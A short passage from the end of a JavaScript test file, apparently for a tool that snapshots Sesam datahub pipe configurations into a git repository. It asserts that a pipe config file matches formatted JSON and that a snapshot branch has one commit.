    expect(readTree(repo.dir)['pipes/a.conf.json']).toBe(formatJson(pipeA));
    expect(repo.git('rev-list', '--count', 'sesam-snapshots/datahub-fake0001.sesam.cloud').trim()).toBe('1');
  });
});
